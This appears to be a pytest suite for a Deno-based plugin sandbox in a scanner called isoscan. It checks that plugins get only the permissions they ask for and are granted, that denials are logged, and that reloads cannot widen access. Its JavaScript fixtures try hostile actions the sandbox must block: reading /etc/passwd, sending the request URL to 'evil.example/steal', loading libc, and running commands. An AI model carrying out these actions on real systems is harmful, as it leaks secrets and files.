"""What a plugin may reach: granted and asked for, refused and recorded, never widened in silence."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from isoscan import (
    ConfigError,
    Denial,
    HttpRequest,
    HttpTransaction,
    Permissions,
    PermissionsWidened,
    PluginExecutor,
    PluginExecutorPool,
    PluginLoadError,
    PluginMetadata,
    Verdict,
)
from support.builders import make_executor, make_transaction, scan

REACHES = """
export async function scan_transaction(t) {
  const reach = {
    read: () => Deno.readTextFile("/etc/passwd"),
    write: () => Deno.writeTextFileSync("/tmp/x", "y"),
    net: () => fetch("https://evil.example/steal?" + t.request.url),
    run: () => new Deno.Command("ls"),
    env: () => Deno.env.get("HOME"),
    ffi: () => Deno.dlopen("libc.so.6", {}),
    sys: () => Deno.hostname(),
    worker: () => new Worker("data:,"),
    storage: () => localStorage.setItem("a", "b"),
    wasm: () => new WebAssembly.Module(new Uint8Array(8)),
  };
  const refused = [];
  for (const name in reach) {
    try { await reach[name](); } catch (error) { refused.push(`${name}=${error.name}`); }
  }
  return { title: refused.join(" ") };
}"""
FETCHES = """
export const metadata = { id: "fetches", permissions: { net: [TARGETS] } };
export async function scan_transaction(t) {
  const answers = [];
  for (const target of t.request.headers["x-targets"].split(" ")) {
    try { answers.push(await (await fetch(`http://${target}/`)).text()); }
    catch (error) { answers.push(error.name); }
  }
  return { title: answers.join(" ") };
}"""
READS = """
export const metadata = { id: "reads", permissions: { read: ["words/", "one.txt"] } };
export function scan_transaction(t) {
  const name = t.request.headers["x-name"];
  try {
    const bytes = isoscan.readAsset(name);
    const text = isoscan.readAssetText(name);
    bytes.fill(0);
    return { title: `${bytes.length}:${text}` };
  } catch (error) { return { title: error.name }; }
}"""
#: The smallest module with one function, that gives 42.
WASM = """
const bytes = Uint8Array.fromBase64("AGFzbQEAAAABBQFgAAF/AwIBAAcFAQFmAAAKBgEEAEEqCw==");
export function scan_transaction(t) {
  return { title: `${new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f()}` };
}"""


async def title(executor: PluginExecutor, **headers: str) -> str:
    """The title of the one finding on a transaction with these headers."""
    named = tuple((f"x-{name}", value) for name, value in headers.items())
    transaction = HttpTransaction(HttpRequest("GET", "http://shop.example/", headers=named))
    result = await scan(executor, transaction)
    assert result.findings, result.error
    (finding,) = result.findings
    return finding.title


@asynccontextmanager
async def http_server(answer: str) -> AsyncIterator[str]:
    """A web server on a free port of this machine; gives `host:port`."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(answer)}\r\nConnection: close\r\n\r\n"
        writer.write((head + answer).encode())
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}"


async def test_refused_and_recorded() -> None:
    """Each attempt throws, and shows in the result and the stats with its target."""
    async with make_executor(REACHES) as executor:
        result = await scan(executor, make_transaction("/?token=abc"))
        assert result.verdict is Verdict.FINDINGS
        assert "=undefined" not in result.findings[0].title
        assert len(result.findings[0].title.split()) == 10
        assert {(denial.permission, denial.target) for denial in result.denials} == {
            ("read", "Deno.readTextFile"),
            ("write", "Deno.writeTextFileSync"),
            ("net", "fetch"),
            ("run", "Deno.Command"),
            ("env", "Deno.env"),
            ("ffi", "Deno.dlopen"),
            ("sys", "Deno.hostname"),
            ("worker", "Worker"),
            ("storage", "localStorage"),
            ("wasm", "WebAssembly"),
        }
        await scan(executor, make_transaction())
        assert Denial("net", "fetch", 2) in executor.get_stats().denials


async def test_what_is_not_granted_is_not_there() -> None:
    """Neither its type nor a list of globals shows it, and a polyfill can take its name."""
    code = """
    const seen = [typeof fetch, typeof Worker, typeof Deno.open, "open" in Deno, Object.keys(Deno).join(),
      Object.getOwnPropertyNames(globalThis).includes("fetch")];
    globalThis.fetch = () => "mine";
    export function scan_transaction(t) { return { title: [...seen, fetch()].join(" ") }; }"""
    async with make_executor(code) as executor:
        assert await title(executor) == "undefined undefined undefined false core false mine"


async def test_attempts_are_counted_within_bounds() -> None:
    """A plugin that tries a thousand places fills neither the reply nor the stats."""
    code = """
    export function scan_transaction(t) {
      for (let i = 0; i < 1000; i++) { try { isoscan.readAsset(`${i}.txt`); } catch {} }
      for (let i = 0; i < 7; i++) { try { isoscan.readAsset("again.txt"); } catch {} }
    }"""
    async with make_executor(code) as executor:
        result = await scan(executor, make_transaction())
        assert sum(denial.count for denial in result.denials) == 1007
        assert len(result.denials) <= 51
        await scan(executor, make_transaction())
        stats = executor.get_stats()
        assert sum(denial.count for denial in stats.denials) == 2014
        assert len(stats.denials) <= 101


async def test_attempts_while_loading_are_recorded() -> None:
    """Also of a plugin that cannot be loaded because of them."""
    executor = make_executor("isoscan.readAsset('key.pem');\nexport function scan_transaction(t) {}")
    with pytest.raises(PluginLoadError, match="Requires read access"):
        await executor.start()
    assert executor.get_stats().denials == (Denial("read", "key.pem", 1),)


async def test_targets_carry_nothing_away() -> None:
    """Of a URL the host is shown, not what was packed into it; nothing unprintable anywhere."""
    code = """
    export async function scan_transaction(t) {
      const urls = ["https://user:pass@h.example/" + t.request.url, { toString() { throw 1; } },
        new Request("http://r.example/?key=1")];
      for (const url of urls) await fetch(url).catch(() => {});
      try { new WebSocket("ws://w.example/token"); } catch {}
      try { isoscan.readAsset("x".repeat(500)); } catch {}
      try { isoscan.readAsset("a\\n\\u001b[31mb"); } catch {}
    }"""
    async with make_executor(code, permissions=Permissions(net=("a.example:443",))) as executor:
        result = await scan(executor, make_transaction("/s3cret"))
        assert result.error is None
        assert {(denial.permission, denial.target) for denial in result.denials} == {
            ("net", "h.example:443"),
            ("net", "r.example:80"),
            ("net", "w.example:80"),
            ("read", ""),
            ("read", "a??[31mb"),
        }


async def test_file_gets_what_it_asks_for_and_is_granted(tmp_path: Path) -> None:
    """Of two targets asked for and two granted, the one in both can be reached."""
    async with http_server("one") as one, http_server("two") as two, http_server("three") as three:
        path = tmp_path / "fetches.ts"
        path.write_text(FETCHES.replace("TARGETS", f'"{one}", "{two}"'))
        executor = PluginExecutor.from_file(path, permissions=Permissions(net=(two, three)))
        async with executor:
            assert executor.permissions == Permissions(net=(two,))
            assert executor.get_stats().permissions == Permissions(net=(two,))
            assert await title(executor, targets=f"{one} {two} {three}") == "NotCapable two NotCapable"


async def test_file_that_asks_for_nothing_gets_nothing(tmp_path: Path) -> None:
    """A grant for all plugins of a run does not reach one that never wanted it."""
    path = tmp_path / "quiet.js"
    path.write_text("export function scan_transaction(t) { return { title: typeof Response }; }")
    executor = PluginExecutor.from_file(path, permissions=Permissions(net=("a.example:443",), wasm=True))
    async with executor:
        assert executor.permissions == Permissions()
        assert await title(executor) == "undefined"


async def test_code_gets_what_it_is_granted() -> None:
    """Code without metadata of its own: the caller's word is enough, or the caller's metadata bounds it."""
    grant = Permissions(wasm=True)
    async with make_executor(WASM, permissions=grant) as executor:
        assert await title(executor) == "42"
    bounded = PluginMetadata(id="bounded", permissions=Permissions())
    async with PluginExecutor(bounded, WASM, permissions=grant) as executor:
        assert (await scan(executor, make_transaction())).verdict is Verdict.ERROR


async def test_assets(tmp_path: Path) -> None:
    """Granted files and folders can be read, each time as they were; nothing else can."""
    (tmp_path / "words").mkdir()
    (tmp_path / "words/a.txt").write_text("alpha")
    (tmp_path / "one.txt").write_text("ünö")
    (tmp_path / "two.txt").write_text("secret")
    path = tmp_path / "reads.ts"
    path.write_text(READS)
    grant = Permissions(read=("words/", "one.txt", "two.txt"))
    async with PluginExecutor.from_file(path, permissions=grant) as executor:
        for _ in range(2):
            assert await title(executor, name="words/a.txt") == "5:alpha"
            assert await title(executor, name="one.txt") == "5:ünö"
        for name in ("two.txt", "reads.ts", "../x", "words", "/etc/passwd", "words/../two.txt"):
            assert await title(executor, name=name) == "NotCapable"
        assert Denial("read", "two.txt", 1) in executor.get_stats().denials


@pytest.mark.parametrize("name", ["gone.txt", "link.txt"])
async def test_bad_asset(tmp_path: Path, name: str) -> None:
    """A file that is not there, or that leads out of the plugin's folder, is a load error that names it."""
    (tmp_path / "plugin").mkdir()
    (tmp_path / "outside.txt").write_text("secret")
    (tmp_path / "plugin/link.txt").symlink_to(tmp_path / "outside.txt")
    path = tmp_path / "plugin/reads.ts"
    path.write_text(READS.replace('"words/", "one.txt"', f'"{name}"'))
    with pytest.raises(PluginLoadError, match=name):
        await PluginExecutor.from_file(path, permissions=Permissions(read=(name,))).start()


async def test_code_has_no_folder() -> None:
    """Files can be granted to plugin files only."""
    with pytest.raises(ConfigError, match="plugin file"):
        await make_executor(permissions=Permissions(read=("a.txt",))).start()


async def test_reload_does_not_widen(tmp_path: Path) -> None:
    """A version that asks for more is refused, the old one serves, and saying yes lets it in."""
    path = tmp_path / "grows.ts"
    asks = "export const metadata = {{ id: 'grows', permissions: {{ net: [{}] }} }};\n"
    body = "export function scan_transaction(t) {{ return {{ title: '{}' }}; }}"
    path.write_text(asks.format("'a.example:443'") + body.format("old"))
    grant = Permissions(net=("a.example:443", "b.example:443"))
    async with PluginExecutor.from_file(path, permissions=grant) as executor:
        path.write_text(asks.format("'a.example:443', 'b.example:443'") + body.format("new"))
        with pytest.raises(PermissionsWidened, match=r"net b\.example:443"):
            await executor.reload()
        assert await title(executor) == "old"
        assert executor.permissions == Permissions(net=("a.example:443",))
        await executor.reload(permissions=grant)
        assert await title(executor) == "new"
        assert executor.permissions == grant
        path.write_text(asks.format("") + body.format("less"))
        await executor.reload()
        assert executor.permissions == Permissions()
        assert await title(executor) == "less"


async def test_pool_grants_each_member(tmp_path: Path) -> None:
    """Members that join after a reload have what the others have."""
    path = tmp_path / "wasm.js"
    path.write_text(
        "export const metadata = { id: 'wasm', permissions: { wasm: true } };"
        "export function scan_transaction(t) { return { title: typeof WebAssembly }; }"
    )
    pool = PluginExecutorPool.from_file(path, 1)
    async with pool:
        assert (await pool.scan_transaction(make_transaction()))[0].title == "undefined"
        await pool.reload(permissions=Permissions(wasm=True))
        await pool.resize(2)
        titles = {(await pool.scan_transaction(make_transaction()))[0].title for _ in range(6)}
        assert titles == {"object"}


@pytest.mark.parametrize(
    "wrong",
    [
        {"read": ["/etc/passwd"]},
        {"read": ["../x"]},
        {"read": ["a/../../x"]},
        {"read": [""]},
        {"read": ["a//b"]},
        {"read": ["."]},
        {"read": ["a\\b"]},
        {"net": ["*.example:443"]},
        {"net": "a.example:443"},
        {"files": ["x"]},
        {"wasm": "yes"},
        ["net"],
    ],
)
async def test_bad_manifest(tmp_path: Path, wrong: object) -> None:
    """Unknown names, wildcards and paths that lead out are load errors that name the file."""
    path = tmp_path / "wrong.ts"
    path.write_text(
        f"export const metadata = {{ id: 'wrong', permissions: {json.dumps(wrong)} }};\n"
        "export function scan_transaction(t) {}"
    )
    with pytest.raises(PluginLoadError, match=r"wrong\.ts: metadata: "):
        await PluginExecutor.from_file(path).start()


async def test_reload_can_take_everything_back() -> None:
    """An empty grant is a grant too: it is not taken for none given."""
    async with make_executor(WASM, permissions=Permissions(wasm=True)) as executor:
        assert await title(executor) == "42"
        await executor.reload(WASM, permissions=Permissions())
        assert executor.permissions == Permissions()
        assert (await scan(executor, make_transaction())).verdict is Verdict.ERROR


async def test_refused_version_changes_nothing(tmp_path: Path) -> None:
    """Neither who the plugin is nor that, with network, its interrupted scans are not run again."""
    path = tmp_path / "grows.ts"
    text = (
        "export const metadata = {{ id: '{}', permissions: {{ net: [{}] }} }};\n"
        "export function scan_transaction(t) {{}}"
    )
    path.write_text(text.format("old", "'a.example:443'"))
    grant = Permissions(net=("a.example:443", "b.example:443"))
    async with PluginExecutor.from_file(path, permissions=grant) as executor:
        path.write_text(text.format("new", "'a.example:443', 'b.example:443'"))
        with pytest.raises(PermissionsWidened):
            await executor.reload()
        assert executor.metadata.id == "old"
        assert not executor._dispatch.ledger.is_replayable


@pytest.mark.parametrize("where", ["top", "init"])
async def test_assets_can_be_read_while_loading(tmp_path: Path, where: str) -> None:
    """A granted asset is there when the plugin loads, though who the plugin is is known only then."""
    (tmp_path / "words.json").write_text('["granted"]', encoding="utf-8")
    read = 'JSON.parse(isoscan.readAssetText("words.json"))[0]'
    load = (
        f"const word = {read};"
        if where == "top"
        else f"let word; export function init() {{ word = {read}; }}"
    )
    (tmp_path / "reads.js").write_text(
        'export const metadata = { id: "reads", permissions: { read: ["words.json"] } };\n'
        f"{load}\nexport const scan_transaction = () => ({{ title: word }});\n",
        encoding="utf-8",
    )
    grant = Permissions(read=("words.json", "of-another-plugin.json"))
    async with PluginExecutor.from_file(tmp_path / "reads.js", permissions=grant) as executor:
        assert executor.permissions == Permissions(read=("words.json",))
        assert [one.title for one in await executor.scan_transaction(make_transaction())] == ["granted"]


async def test_assets_that_were_not_asked_for_stay_away(tmp_path: Path) -> None:
    """What lets a plugin say who it is while it loads is not what it gets."""
    (tmp_path / "words.json").write_text('["granted"]', encoding="utf-8")
    (tmp_path / "reads.js").write_text(
        'export const metadata = { id: "reads" };\n'
        'const word = isoscan.readAssetText("words.json");\n'
        "export const scan_transaction = () => ({ title: word });\n",
        encoding="utf-8",
    )
    executor = PluginExecutor.from_file(tmp_path / "reads.js", permissions=Permissions(read=("words.json",)))
    with pytest.raises(PluginLoadError, match=r"words\.json"):
        await executor.start()
